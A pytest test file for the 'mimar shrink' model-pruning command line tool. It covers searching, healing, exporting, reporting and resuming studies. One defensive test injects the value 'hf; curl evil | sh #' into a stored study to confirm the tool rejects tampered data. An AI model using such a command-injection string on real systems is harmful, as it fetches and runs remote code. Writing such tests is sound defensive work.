"""`mimar shrink`: a small pretrained model, cut, compared, written, stopped and resumed."""

import json
import math
import signal
import sqlite3
import subprocess
import sys
import time
from contextlib import closing
from dataclasses import replace
from functools import partial
from types import SimpleNamespace

import pytest
import torch
from safetensors.torch import load_file, save_file
from transformers import LlamaConfig, LlamaForCausalLM, Qwen2Config, Qwen2ForCausalLM

from mimar import elastic
from mimar.cli._shrink_heal import _lessons
from mimar.cli._shrink_plan import Plan, Recovery
from mimar.cli._shrink_settings import Asked, Texts
from mimar.elastic import SubNetwork, load_parent, text_loss
from mimar.errors import InputError
from mimar.formats import measured_speeds, read_gguf
from mimar.shrink import open_model
from mimar.training import SubwordTokenizer, tokenizer_named

WORDS = "The year 1984 was long. It's naïve – isn't it? A cat sat on the mat and the dog ran after the cat.\n"
SIZES = {
    "vocab_size": 300, "hidden_size": 96, "intermediate_size": 128, "num_hidden_layers": 4, "num_attention_heads": 6,
    "num_key_value_heads": 3, "head_dim": 16, "max_position_embeddings": 64,
}  # fmt: skip
SMALL = (
    "--window", 32, "--calibration-tokens", 512, "--search-tokens", 128, "--final-tokens", 128, "--eval-tokens", 128,
    "--device", "laptop-cpu", "--protect", "none", "--cut", "all", "--steps", 4, "--trials", 20,
)  # fmt: skip


@pytest.fixture
def model(tmp_path):
    """A folder of transformers with a tokenizer."""
    folder = tmp_path / "model"
    torch.manual_seed(0)
    made = LlamaForCausalLM(LlamaConfig(**SIZES))
    with torch.no_grad():
        for parameter in made.parameters():
            parameter.add_(0.1 * torch.randn_like(parameter))
    made.save_pretrained(folder)
    tokenizer_named("train:300", [WORDS * 40]).save(folder)
    (folder / "README.md").write_text("---\nlicense: mit\n---\nA model.\n")
    (folder / "NOTICE.txt").write_text("By us.\n")
    return folder


@pytest.fixture
def text(tmp_path):
    path = tmp_path / "text.txt"
    path.write_text(WORDS * 200, encoding="utf-8")
    return path


@pytest.fixture(autouse=True)
def timed_once(monkeypatch, request):
    """Files are timed in a fifth of the rounds, but for one test."""
    if request.node.name != "test_the_choice_is_measured_compared_and_written":
        monkeypatch.setattr("mimar.shrink._speed.measured_speeds", partial(measured_speeds, rounds=1))


@pytest.fixture
def shrink(mimar, model, text, tmp_path):
    """The command with its usual options; further ones may follow."""

    def run(*more):
        given = ("--calibration", text, "--eval-text", text, "--study", tmp_path / "s.db", *SMALL, *more)
        return mimar("shrink", model, *given)

    return run


def test_the_choice_is_measured_compared_and_written(shrink, model, tmp_path):
    out = tmp_path / "out"
    done = shrink(
        "--max-block-params", "0.7x", "--cut", "channels", "--baselines", "--quantized", "Q8_0", "--export",
        "gguf:Q8_0", "--out", out, "--json",
    )  # fmt: skip
    assert done.code == 0, done.err
    result = done.json
    parent, chosen = result["parent"], result["chosen"]
    whole = load_parent(str(model))
    assert parent["block_params"] == SubNetwork.whole(whole.arch).block_params(whole.arch)
    rows = [parent, chosen, *result["baselines"], *result["front"], *result["quantized"]]
    wanted = {"params", "block_params", "bytes", "memory_at_context", "perplexity", "tasks"}
    assert all(wanted < row.keys() and row["perplexity"] > 1 for row in rows)
    assert {row["kind"] for row in result["baselines"]} == {"uniform_width", "shortgpt", "magnitude", "random"}
    assert all(row["block_params"] <= 0.7 * parent["block_params"] for row in (chosen, *result["baselines"]))
    assert all(row["decode_tokens_per_second"] > 0 for row in (parent, chosen, *result["quantized"][:2]))
    ranked = result["finalists"]
    assert len(ranked) == 4
    assert chosen["id"] == ranked[0]["id"]
    assert ranked[0]["behind"] == ranked[0]["error"] == 0.0
    assert [each["value"] for each in ranked] == sorted(each["value"] for each in ranked)
    assert all(each["behind"] == pytest.approx(each["value"] - ranked[0]["value"]) for each in ranked)
    spent = result["layer_forwards"]
    assert 0 < spent["spent"] < spent["naive"]
    (export,) = result["exports"]
    assert export["verdicts"]["llama.cpp"].startswith("ok")
    (file,) = out.glob("*/*.gguf")
    assert file.stat().st_size == chosen["bytes"]
    assert read_gguf(file).keys["deci.feed_forward_length"] is not None
    assert read_gguf(file).keys["general.license"] == "mit"
    assert (file.parent / "NOTICE.txt").read_text(encoding="utf-8") == "By us.\n"
    card = (file.parent / "README.md").read_text(encoding="utf-8")
    assert 'license: "mit"' in card
    assert "library_name" not in card
    assert "which this is a part of: mit; see NOTICE.txt." in card
    assert "# model, made smaller" in card
    assert f"| perplexity, text.txt | {parent['perplexity']:.2f} | {chosen['perplexity']:.2f} |" in card
    assert f"| parameters | {parent['params']:,} | {chosen['params']:,} |" in card
    assert "before its weights were rounded to Q8_0" in card


def test_weights_of_fewer_bits_take_less_memory(shrink, mimar, tmp_path):
    """Of parent, choice and all of the front; the latter are not run."""
    result = shrink("--max-block-params", "0.8x", "--quantized", "Q8_0,Q4_0", "--dtype", "fp16", "--json").json
    rows = result["quantized"]
    ran, front = rows[:4], rows[4:]
    assert [row["kind"] for row in ran] == ["parent:Q8_0", "chosen:Q8_0", "parent:Q4_0", "chosen:Q4_0"]
    assert all(row["decode_tokens_per_second"] > 0 and row["llama_cpp"]["perplexities"] for row in ran)
    others = [row["id"] for row in result["front"] if row["id"] != result["chosen"]["id"]]
    assert [(row["id"], row["kind"]) for row in front] == [
        (number, f"front:{kind}") for number in others for kind in ("Q8_0", "Q4_0")
    ]
    assert all(row["decode_tokens_per_second"] is None and row["perplexity"] > 1 for row in front)
    whole = {row["id"]: row for row in result["front"]}
    for row in rows:
        same = whole[row["id"]] if "id" in row else result[row["kind"].partition(":")[0]]
        assert row["params"] == same["params"]
        other = row["memory_at_context"] - row["bytes"]
        assert other == pytest.approx(same["memory_at_context"] - 2 * same["params"], abs=1)
    mimar("report", tmp_path / "s.db", "--out", tmp_path / "r.html")
    assert f"<td>#{others[0]} Q4_0</td>" in (tmp_path / "r.html").read_text(encoding="utf-8")


def test_baselines_stand_beside_the_parent_with_fewer_bits(shrink):
    result = shrink("--max-block-params", "0.8x", "--baselines", "--json").json
    (rival,) = result["quantized"]
    assert rival["kind"] == "parent:Q4_0"
    assert rival["bytes"] < result["parent"]["bytes"]
    assert rival["decode_tokens_per_second"] > 0


def test_llama_cpp_as_the_device_is_timed_before_the_search(shrink, mimar, tmp_path):
    """And a resumed study does not time it again."""
    options = ("--device", "llama.cpp", "--max-memory", "0.9x", "--cut", "channels,attention", "--json")
    done = shrink(*options)
    assert done.code == 0, done.err
    assert "time llama.cpp" in done.err
    found = done.json
    assert 0 < found["parent"]["expected"]["decode_tokens_per_second"] < float("inf")
    assert {heads for row in found["front"] for heads, _ in row["layers"]} <= {0, SIZES["num_key_value_heads"]}
    again = shrink(*options, "--resume")
    assert again.code == 0, again.err
    assert "time llama.cpp" not in again.err
    assert again.json["parent"]["expected"] == found["parent"]["expected"]


def test_a_llama_cpp_that_fails_costs_its_figures_alone(shrink, monkeypatch):
    def failing(*_):
        raise InputError("llama.cpp had no memory left")

    monkeypatch.setattr("mimar.cli._shrink_files.run_in_llama_cpp", failing)
    done = shrink("--max-block-params", "0.8x", "--quantized", "Q8_0", "--json")
    assert done.code == 0, done.err
    assert done.err.count("not timed: llama.cpp had no memory left") == 2  # the models, and those of fewer bits
    rows = [done.json["parent"], done.json["chosen"], *done.json["quantized"]]
    speeds = ("prefill_tokens_per_second", "decode_tokens_per_second")
    assert {row[name] for row in rows for name in speeds} == {None}
    assert all(row["bytes"] > 0 and row["perplexity"] > 1 for row in rows)


def test_the_finals_are_told_as_they_ended(shrink):
    """The winner with its loss, the others by how far they are behind, since they may not have read all of it."""
    done = shrink("--max-block-params", "0.8x", "--json")
    best, *others = done.json["finalists"]
    (line,) = (line for line in done.err.splitlines() if line.startswith("loss on 128 tokens more: "))
    told = line.removeprefix("loss on 128 tokens more: ").split("; ")
    assert told[0] == f"{best['value']:.4f} of #{best['id']}"
    assert told[1:] == [f"#{each['id']} {each['behind']:.4f} ± {each['error']:.4f} behind" for each in others]


def test_each_calibration_text_has_a_say_in_the_scores_of_parts(shrink, model, text, tmp_path, monkeypatch):
    given, scored = list[torch.Tensor](), elastic.block_scores
    monkeypatch.setattr(elastic, "block_scores", lambda *parts: (given.append(parts[-1]), scored(*parts))[1])
    others = {"small.txt": "xyz zyx yxz ", "figures.txt": "777 555 666 ", "large.txt": "CXK KXC XKC "}
    for name, words in others.items():
        (tmp_path / name).write_text(words * 2000, encoding="utf-8")
    done = shrink("--max-block-params", "0.8x", *(part for name in others for part in ("--calibration", name)))
    assert done.code == 0, done.err
    reader, (windows,) = SubwordTokenizer.read(model), given
    known = [set(reader.ids(words * 9)) for words in (text.read_text(encoding="utf-8")[:2000], *others.values())]
    came_from = [[number for number, ids in enumerate(known) if set(row) <= ids] for row in windows.tolist()]
    assert came_from == [[0], [1], [2], [3]]


def test_what_was_cut_learns_from_its_parent(shrink, mimar, tmp_path):
    """With a control, a curve, and a second run that finds the work done."""
    wanted = ("--max-block-params", "0.5x", "--final-tokens", 0, "--trials", 8)
    options = (*wanted, "--heal", "20k", "--heal-rate", "2e-3", "--heal-control", "--json")
    text_too = (*options, "--heal-teacher-weight", 0.5, "--study", tmp_path / "text.db")
    done = shrink(*options)
    assert done.code == 0, done.err
    result, healing = done.json, done.json["healing"]
    before = healing["before"]
    assert before["block_params"] == result["chosen"]["block_params"]
    assert result["chosen"]["perplexity"] != before["perplexity"]
    assert healing["curve"][-1]["tokens"] >= 20_000
    assert len(healing["curve"]) > 2
    assert healing["control"]["kind"] == "parent_healed"
    parent = result["parent"]["perplexity"]
    assert healing["control"]["perplexity"] == parent  # from itself it learns nothing
    assert healing["curve"][-1]["perplexity"] < healing["curve"][0]["perplexity"]
    other = shrink(*text_too).json
    assert other["healing"]["control"]["perplexity"] < 0.5 * parent
    assert other["chosen"]["perplexity"] < 0.5 * result["chosen"]["perplexity"]
    assert len(other["healing"]["control_curve"]) == len(healing["curve"])
    folders = [path.name.partition("-")[0] for path in tmp_path.glob("*.db.*")]
    assert sorted(folders) == ["s.db.chosen", "text.db.chosen", "text.db.parent"]
    again = shrink(*options, "--resume").json
    assert again["healing"]["curve"] == healing["curve"]
    assert again["chosen"]["perplexity"] == result["chosen"]["perplexity"]
    faster = shrink(*options, "--heal-rate", "4e-3", "--resume").json
    assert faster["healing"]["curve"] != healing["curve"]


def test_what_is_learnt_is_cut_as_what_is_judged(model, text, tmp_path):
    """A model that reads fewer tokens than were asked for is taught in its own windows, each begun as it is used to."""
    opened = replace(open_model(str(model), tmp_path), begin=(7, 8))
    recovery = Recovery(1000, (), 1e-3, 1.0, "float32", control=False, save_every=60.0)
    plan = Plan((str(text),), 256, 4 * SIZES["max_position_embeddings"], (), None, False, recovery, (), (), None)
    lessons = _lessons(SimpleNamespace(opened=opened, calibration=(str(text),)), plan)
    assert lessons.judged.shape == (4, SIZES["max_position_embeddings"])
    step = lessons.judged.shape[1] - 1
    assert set(lessons.text[::step]) == {7}
    assert set(lessons.text[1::step]) == {8}
    assert len(lessons.text) > 10 * step


def test_settings_without_what_is_new_are_those_of_before_there_was_any():
    """A study that began then goes on: its settings have to be equal."""
    assert Asked(("mmlu",), 5).to_json() == {"tasks": ["mmlu"], "items": 5}
    assert Asked(("mmlu",), 5, "abc").to_json()["sha256"] == "abc"
    texts = Texts(("a.txt",), 512, 128, 32, "abc")
    assert texts.to_json() == {"calibration": ["a.txt"], "tokens": 512, "judged": 128, "window": 32, "sha256": "abc"}
    assert replace(texts, finals=64).to_json()["finals"] == 64


def test_one_fine_tune_serves_all_sub_networks(shrink, tmp_path):
    """A resumed run finds it done."""
    options = (
        "--max-block-params",
        "0.7x",
        "--final-tokens",
        0,
        "--finetune",
        "20k",
        "--finetune-rate",
        "1e-3",
        "--json",
    )
    tuned = shrink(*options)
    assert tuned.code == 0, tuned.err
    assert [path.is_dir() for path in tmp_path.glob("s.db.tuned-*")] == [True]
    assert tuned.json["stages"]["fine-tune"] > 0
    curve = tuned.json["finetune"]["curve"]
    assert len(curve) > 2
    assert curve[-1]["tokens"] >= 20_000
    whole, subs = (tuned.json["finetune"][part] for part in ("whole", "sub_networks"))
    assert (subs["count"], subs["better"] > 40, subs["after"] < subs["before"]) == (50, True, True)
    assert whole["before"] < subs["before"]
    assert whole["after"] < 1.02 * whole["before"]
    assert f"median loss of 50 random sub-networks {subs['before']:.3f} before" in tuned.err
    again = shrink(*options, "--resume").json
    assert (again["front"], again["finetune"]) == (tuned.json["front"], tuned.json["finetune"])
    assert again["stages"]["fine-tune"] < tuned.json["stages"]["fine-tune"]


def questions(folder):
    """A file of six, as --tasks names it."""
    rows = [
        {
            "id": f"q{n}",
            "question": f"What sat on the {place}?",
            "choices": ["a cat", "a dog", "a mat"],
            "answer": n % 3,
        }
        for n, place in enumerate(["mat", "cat", "dog", "long mat", "year", "mat of 1984"])
    ]
    file = folder / "easy.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return "--tasks", f"arc_easy={file}"


def test_tasks_have_scores_with_errors(shrink, tmp_path):
    done = shrink("--max-block-params", "0.8x", *questions(tmp_path), "--task-items", 5, "--json")
    assert done.code == 0, done.err
    for row in (done.json["parent"], done.json["chosen"], *done.json["front"]):
        found = row["tasks"]["arc_easy"]
        assert found["items"] == 5
        assert 0 <= found["accuracy"] <= 1
        assert found["accuracy_error"] == pytest.approx(math.sqrt(found["accuracy"] * (1 - found["accuracy"]) / 4))


def test_a_language_model_may_propose(shrink):
    """What random choice in its place puts forward is judged like any other, and its calls are on record."""
    done = shrink("--max-block-params", "0.9x", "--strategy", "one-shot", "--llm", "uniform", "--trials", 14, "--json")
    assert done.code == 0, done.err
    result = done.json
    assert result["trials"] == 14
    assert result["llm"]["calls"] > 0
    assert result["llm"]["unique_valid"] > 0


def test_a_sum_of_objectives_may_decide(shrink):
    options = ("--strategy", "scalarised", "--objectives", "divergence,memory_bytes", "--weights", "divergence=3")
    done = shrink("--max-memory", "0.9x", *options, "--json")
    assert done.code == 0, done.err
    assert done.json["objectives"] == ["divergence", "memory_bytes"]


@pytest.mark.parametrize("protect", ["none", "0,3"])
def test_uniform_sizes_load_in_transformers(shrink, tmp_path, protect):
    """Protected layers are kept, with the sizes of all."""
    done = shrink(
        "--max-block-params",
        "0.7x",
        "--form",
        "U",
        "--protect",
        protect,
        "--export",
        "hf",
        "--out",
        tmp_path / "out",
        "--json",
    )
    assert done.code == 0, done.err
    result = done.json
    assert result["exports"][0]["verdicts"]["transformers"].startswith("ok")
    shrunk = load_parent(result["exports"][0]["path"])
    assert len(shrunk.layers) == sum(any(sizes) for sizes in result["chosen"]["layers"])


def test_uniform_width_cuts_every_layer_where_all_have_the_same_sizes(shrink):
    """As the search may, though some layers are not dropped; its sizes are then one of the form's."""
    options = ("--form", "U", "--protect", 0, "--cut", "channels", "--max-block-params", "0.8x")
    (row,) = (each for each in shrink(*options, "--baselines", "--json").json["baselines"] if each["kind"][0] == "u")
    assert len({tuple(sizes) for sizes in row["layers"]}) == 1


def test_a_gguf_file_brings_the_licence_beside_it(mimar, model, text, tmp_path):
    options = ("--calibration", text, "--max-block-params", "0.8x", *SMALL)
    first = ("--form", "U", "--export", "gguf:F16", "--out", tmp_path / "a", "--study", tmp_path / "a.db")
    assert mimar("shrink", model, *options, *first).code == 0
    (file,) = (tmp_path / "a").glob("*/*.gguf")
    file.with_suffix(".LICENSE").write_text("As you like.\n")
    again = ("--export", "hf", "--out", tmp_path / "b", "--study", tmp_path / "b.db")
    done = mimar("shrink", file, *options, *again)
    assert done.code == 0, done.err
    assert (tmp_path / "b" / "hf" / "LICENSE").read_text() == "As you like.\n"
    assert 'license: "mit"' in (tmp_path / "b" / "hf" / "README.md").read_text()


def test_layers_of_different_sizes_are_written_for_transformers_too(shrink, tmp_path):
    done = shrink("--max-block-params", "0.75x", "--protect", 0, "--export", "hf", "--out", tmp_path / "out", "--json")
    assert done.code == 0, done.err
    (export,) = done.json["exports"]
    assert export["verdicts"]["transformers"].startswith("ok: loads as RaggedLlamaForCausalLM, after")
    assert (tmp_path / "out" / "hf" / "modeling_ragged.py").exists()


def test_what_no_sub_network_can_be_written_as_is_refused_before_anything_is_computed(shrink, mimar, model, tmp_path):
    config = Qwen2Config(**{name: size for name, size in SIZES.items() if name != "head_dim"})
    Qwen2ForCausalLM(config).save_pretrained(model)
    options = ("--max-block-params", "0.75x", "--protect", 0, "--out", tmp_path / "out", "--json")
    for asked in (("--export", "gguf,hf"), ("--quantized", "Q8_0")):
        done = shrink(*options, *asked)
        done.refused(2, "only for Llama, not for qwen2", "--form U")
        assert "order channels" not in done.err
    assert not (tmp_path / "s.db").exists()
    done = shrink(*options, "--export", "hf")
    assert done.code == 0, done.err
    mimar("report", tmp_path / "s.db", "--out", tmp_path / "r.html")
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "--export hf --out DIR" in page
    assert "--export gguf" not in page
    (hf,) = (export["verdicts"] for export in done.json["exports"])
    assert hf["transformers"].startswith("ok: loads as RaggedQwen2ForCausalLM")


def test_what_a_form_cannot_hold_is_a_verdict(shrink, tmp_path):
    """This file alone is not written: llama.cpp needs attention in the first layer."""
    options = ("--form", "R", "--strategy", "random", "--max-block-params", "0.8x", "--trials", 60)
    assert shrink(*options).code == 0
    with sqlite3.connect(tmp_path / "s.db") as database:
        bodies = [json.loads(body) for (body,) in database.execute("select body from events where kind = 'trial'")]
    subs = {body["id"]: body["architecture"] for body in bodies if body["status"] == "complete"}
    headless = next(number for number, sub in subs.items() if sub["kv_heads"][0] == 0 < sub["intermediate"][0])
    export = ("--resume", "--choose", headless, "--export", "gguf,hf", "--out", tmp_path / "out", "--json")
    done = shrink(*options, *export)
    assert done.code == 6
    gguf, hf = (each["verdicts"] for each in done.json["exports"])
    assert gguf["llama.cpp"].startswith("failed: ")
    assert "needs attention in the first layer" in gguf["llama.cpp"]
    assert hf["transformers"].startswith("ok: loads as RaggedLlamaForCausalLM")
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["hf"]


def test_the_card_tells_how_a_model_was_made(shrink, model, tmp_path):
    """The command that began the study and the one that went on with it, and what was learnt from."""
    options = ("--max-block-params", "0.8x", "--heal", "1k", "--export", "hf", "--out", tmp_path / "out")
    result = shrink("--max-block-params", "0.8x", "--json").json
    done = shrink(*options, "--resume", "--choose", result["chosen"]["id"], *questions(tmp_path), "--json")
    assert done.code == 0, done.err
    card = (tmp_path / "out" / "hf" / "README.md").read_text(encoding="utf-8")
    assert "library_name: transformers" in card
    assert card.count("\n    mimar shrink ") == 2
    assert "--resume --choose" in card
    assert "After the cut it learnt from the parent on 1,000 tokens of text.txt." in card
    score = done.json["chosen"]["tasks"]["arc_easy"]
    assert f"{score['normalised']:.3f} ± {score['normalised_error']:.3f}" in card
    assert "rounded" not in card


def test_writing_alone_leaves_what_was_measured_in_the_report(shrink, mimar, tmp_path):
    result = shrink("--max-block-params", "0.8x", "--baselines", "--json").json
    study, out = tmp_path / "s.db", tmp_path / "out"
    member = result["front"][0]["id"]
    written = ("--study", study, "--resume", "--choose", member, "--export", "hf", "--out", out, "--json")
    done = mimar("shrink", tmp_path / "model", *written)
    assert done.code == 0, done.err
    assert done.json["chosen"]["id"] == member
    assert mimar("shrink", tmp_path / "model", "--study", study, "--resume", "--trials", 22).code == 0
    assert mimar("report", study, "--out", tmp_path / "s.html").code == 0
    assert "shortgpt" in (tmp_path / "s.html").read_text(encoding="utf-8")


def test_texts_of_one_name_are_told_apart(shrink, text, tmp_path):
    other = tmp_path / "other" / text.name
    other.parent.mkdir()
    other.write_text(WORDS[::-1] * 200, encoding="utf-8")
    done = shrink("--max-block-params", "0.8x", "--eval-text", other)
    assert done.code == 0, done.err
    assert f"perplexity {text} " in done.out
    assert f"perplexity {other} " in done.out


def test_the_front_is_shown_and_reported(shrink, mimar, tmp_path):
    result = shrink("--max-block-params", "0.8x", "--json").json
    study = tmp_path / "s.db"
    shown = mimar("show", study, "--json").json
    assert [row["id"] for row in shown["front"]] == [row["id"] for row in result["front"]]
    assert [row["layers"] for row in shown["front"]] == [row["layers"] for row in result["front"]]
    assert shown["hypervolume"] > 0
    assert "loss (nats" in mimar("show", study).out
    page = tmp_path / "s.html"
    assert mimar("report", study, "--out", page).code == 0
    text = page.read_text(encoding="utf-8")
    assert "What is kept of each layer" in text
    assert text.count("<figure><svg") == len(result["chosen"]["perplexities"]) > 0
    assert f"chosen #{result['chosen']['id']}" in text
    assert "--resume --choose" in text
    other = shown["front"][-1]["id"]
    chosen = shrink("--max-block-params", "0.8x", "--resume", "--choose", other, "--json").json["chosen"]
    assert (chosen["id"], chosen["layers"]) == (other, shown["front"][-1]["layers"])
    shrink("--max-block-params", "0.8x", "--resume", "--choose", 999).refused(2, "999")


def test_a_perplexity_is_that_of_the_model(shrink, model, text):
    result = shrink("--max-block-params", "0.9x", "--json").json
    from mimar.shrink import windows
    from mimar.training import SubwordTokenizer

    rows = windows([text.read_text(encoding="utf-8")], SubwordTokenizer.read(model), 4, 32)
    expected = math.exp(text_loss(load_parent(str(model)), torch.from_numpy(rows)))
    assert result["parent"]["perplexity"] == pytest.approx(expected, rel=1e-6)


def test_a_stopped_search_goes_on_to_the_same_front(shrink, mimar, model, text, tmp_path):
    budget = ("--max-block-params", "0.8x", "--json")
    whole = shrink(*budget).json
    study = tmp_path / "killed.db"
    arguments = ["shrink", model, "--calibration", text, "--eval-text", text, "--study", study, *SMALL, *budget]
    command = [sys.executable, "-m", "mimar", *map(str, arguments)]
    process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while process.poll() is None and stored(study) < 9:  # the first eight are stored at once
        time.sleep(0.01)
    process.send_signal(signal.SIGKILL)
    process.wait()
    resumed = mimar(*arguments, "--resume")
    assert resumed.code == 0, resumed.err
    again = resumed.json
    assert [row["layers"] for row in again["front"]] == [row["layers"] for row in whole["front"]]
    assert again["chosen"]["layers"] == whole["chosen"]["layers"]


def stored(study):
    """Trials in the file of a running study."""
    if not study.exists():
        return 0
    try:
        with sqlite3.connect(f"file:{study}?mode=ro", uri=True) as database:
            return database.execute("select count(*) from events where kind = 'trial'").fetchone()[0]
    except sqlite3.OperationalError:
        return 0


@pytest.mark.parametrize(
    "damage",
    [
        "SET body = '{}' WHERE kind = 'trial'",
        "SET body = json_set(body, '$.writes', 'hf; curl evil | sh #') WHERE kind = 'study'",
        "SET body = json_set(body, '$.writes', '{nope}') WHERE kind = 'study'",
        "SET body = json_remove(body, '$.space') WHERE kind = 'study'",
    ],
)
def test_a_damaged_study_is_refused_whatever_reads_it(shrink, mimar, tmp_path, damage):
    assert shrink("--max-block-params", "0.8x").code == 0
    with closing(sqlite3.connect(tmp_path / "s.db")) as database, database:
        assert database.execute(f"UPDATE events {damage}").rowcount
    before = (tmp_path / "s.db").read_bytes()
    shrink("--max-block-params", "0.8x", "--resume").refused(3, "s.db is damaged")
    for command in ("show", "report"):
        mimar(command, tmp_path / "s.db").refused(3, "s.db is damaged")
    assert (tmp_path / "s.db").read_bytes() == before


@pytest.mark.parametrize(
    ("options", "words"),
    [
        ((), ("budget", "--max-block-params")),
        (("--max-block-params", "much"), ("--max-block-params", "much")),
        (("--max-block-params", "0.001x"), ("no sub-network",)),
        (("--max-memory", "1kB"), ("no sub-network",)),
        (("--max-block-params", "0.8x", "--strategy", "luck"), ("strategy", "luck", "linas")),
        (("--max-block-params", "0.8x", "--objectives", "beauty"), ("beauty", "divergence")),
        (("--max-block-params", "0.8x", "--strategy", "zerolm"), ("zerolm", "--llm")),
        (("--max-block-params", "0.8x", "--strategy", "darts"), ("darts", "shrink")),
        (("--max-block-params", "0.8x", "--weights", "divergence=2"), ("--weights", "scalarised")),
        (("--max-block-params", "0.8x", "--form", "X"), ("form", "X")),
        (("--max-block-params", "0.8x", "--cut", "channels,hair"), ("hair", "attention")),
        (("--min-tokens-per-second", "fast"), ("--min-tokens-per-second", "fast")),
        (("--max-block-params", "0.3x", "--cut", "channels"), ("no sub-network",)),
        (("--max-block-params", "0.8x", "--protect", "first"), ("--protect", "first")),
        (("--max-block-params", "0.8x", "--protect", "9"), ("layer 9",)),
        (("--max-block-params", "0.8x", "--export", "gguf"), ("--out",)),
        (("--max-block-params", "0.8x", "--export", "mlx"), ("mlx", "gguf")),
        (("--max-block-params", "0.8x", "--export", "onnx:Q8_0", "--out", "o"), ("onnx takes no type",)),
        (("--max-block-params", "0.8x", "--quantized", "Q9"), ("Q9", "Q8_0")),
        (("--max-block-params", "0.8x", "--eval-tokens", "10M"), ("tokens", "more text")),
        (("--max-block-params", "0.8x", "--tasks", "chess"), ("chess", "arc_easy")),
        (("--max-block-params", "0.8x", "--tasks", "arc_easy=none.jsonl"), ("none.jsonl",)),
        (("--max-block-params", "0.8x", "--heal", "much"), ("--heal", "much")),
        (("--max-block-params", "0.8x", "--precision", "int3"), ("precision", "int3")),
        (("--max-block-params", "0.8x", "--heal-text", "none.txt"), ("none.txt",)),
        (("--max-block-params", "0.8x", "--heal", "1k", "--heal-rate", "0"), ("--heal-rate", "above 0")),
        (("--max-block-params", "0.8x", "--heal-teacher-weight", "2"), ("--heal-teacher-weight", "from 0 to 1")),
        (("--max-block-params", "0.8x", "--heal", "1e400"), ("--heal", "1e400")),
        (("--max-block-params", "0.8x", "--finetune", "1k", "--finetune-rate", "0"), ("--finetune-rate", "above 0")),
        (("--max-block-params", "0.8x", "--ctx", "65"), ("--ctx", "at most", "64 tokens")),
        (("--max-block-params", "0.8x", "--tasks", "mmlu=a.jsonl,mmlu=b.jsonl"), ("mmlu twice",)),
        (("--max-block-params", "0.8x", "--calibration", "none.txt"), ("none.txt",)),
        (("--max-block-params", "0.8x", "--objectives", "params"), ("knapsack", "divergence or loss")),
        (("--max-block-params", "0.8x", "--objectives", "", "--strategy", "random"), ("--objectives", "got none")),
        (("--device", "llama.cpp"), ("at least one budget",)),
        (("--device", "llama.cpp", "--max-block-params", "much"), ("--max-block-params", "much")),
        (("--device", "llama.cpp", "--max-block-params", "0.8x", "--prompt-tokens", "0"), ("prompt_tokens", "0")),
        (("--device", "llama.cpp", "--max-block-params", "0.8x", "--prompt-tokens", "65"), ("prompt_tokens", "65")),
    ],
)
def test_bad_options_are_one_sentence(shrink, tmp_path, options, words):
    """Before anything is computed."""
    done = shrink(*options)
    done.refused(2, *words)
    assert "order channels" not in done.err
    assert "time llama.cpp" not in done.err
    assert not (tmp_path / "s.db").exists()


def test_a_place_where_nothing_can_be_put_is_refused_as_early(shrink, text, tmp_path):
    done = shrink("--max-block-params", "0.8x", "--export", "hf", "--out", text / "in" / "a file")
    done.refused(6, "text.txt", "nothing can be put")
    assert "read the model" not in done.err
    assert not (tmp_path / "s.db").exists()


def test_a_place_that_others_have_filled_is_refused_before_anything_is_computed(shrink, tmp_path):
    (tmp_path / "out" / "hf").mkdir(parents=True)
    (tmp_path / "out" / "hf" / "thesis.txt").write_text("years of work")
    done = shrink("--max-block-params", "0.8x", "--export", "hf", "--out", tmp_path / "out")
    done.refused(2, "thesis.txt")
    assert "order channels" not in done.err
    assert not (tmp_path / "s.db").exists()


def test_a_missing_key_is_said_before_anything_is_computed(shrink, tmp_path):
    shrink("--max-block-params", "0.8x", "--llm", "openai:gpt", "--strategy", "zerolm").refused(4, "OPENAI")
    assert not (tmp_path / "s.db").exists()


def test_bad_models_are_one_sentence(mimar, model, text, tmp_path):
    def refused(folder, *words):
        given = ("--calibration", text, "--max-block-params", "0.8x", "--study", tmp_path / "s.db", *SMALL)
        mimar("shrink", folder, *given).refused(2, *words)
        assert not (tmp_path / "s.db").exists()

    refused(tmp_path / "nothing", "no model")
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps({**config, "model_type": "gpt2"}))
    refused(model, "LLaMA family", "gpt2")
    (model / "config.json").write_text(json.dumps({**config, "vocab_size": 200}))
    refused(model, "200")
    (model / "config.json").write_text(json.dumps(config))
    own = (model / "tokenizer.json").read_bytes()
    tokenizer_named("train:400", [" ".join(map(str, range(5000)))]).save(model)
    refused(model, "400 tokens", "belongs to another model")
    (model / "tokenizer.json").write_bytes(own)
    weights = load_file(model / "model.safetensors")
    index = {"weight_map": dict.fromkeys(weights, "rest.safetensors")}
    (model / "model.safetensors.index.json").write_text(json.dumps(index))
    save_file(dict(list(weights.items())[1:]), model / "rest.safetensors")
    refused(model, "rest.safetensors does not hold what its index says")
    (model / "model.safetensors.index.json").unlink()
    weights = (model / "model.safetensors").read_bytes()
    (model / "model.safetensors").write_bytes(weights[: len(weights) // 2])
    refused(model, "model", "not fully covered")


def test_a_resumed_study_wants_its_model_and_its_text(shrink, mimar, model, text, tmp_path):
    budget = ("--max-block-params", "0.8x")
    assert shrink(*budget).code == 0
    shrink(*budget).refused(2, "--resume")
    text.write_text(WORDS * 100 + "Another text altogether. " * 400, encoding="utf-8")
    shrink(*budget, "--resume").refused(2, "calibration text", "changed")
    torch.manual_seed(1)
    LlamaForCausalLM(LlamaConfig(**SIZES)).save_pretrained(model)
    shrink(*budget, "--resume").refused(2, "not the model")


def test_tasks_may_be_objectives(shrink, mimar, tmp_path):
    """Each candidate answers them; the front is that of right answers and size, with errors in the journal."""
    options = ("--max-block-params", "0.8x", "--task-items", 6, "--strategy", "nsga2", *questions(tmp_path))
    done = shrink(*options, "--objectives", "arc_easy,block_params", "--json")
    assert done.code == 0, done.err
    front = done.json["front"]
    assert all(0 <= row["expected"]["arc_easy"] <= 1 for row in front)
    assert all(0 <= row["expected"]["arc_easy_error"] <= 1 for row in front)
    ordered = sorted(front, key=lambda row: row["block_params"])
    shares = [row["expected"]["arc_easy"] for row in ordered]
    assert shares == sorted(shares)
    chosen = done.json["chosen"]
    assert chosen["tasks"]["arc_easy"]["normalised"] == ordered[-1]["expected"]["arc_easy"]
    shown = mimar("show", tmp_path / "s.db", "--json").json
    assert shown["objectives"] == ["arc_easy", "block_params"]
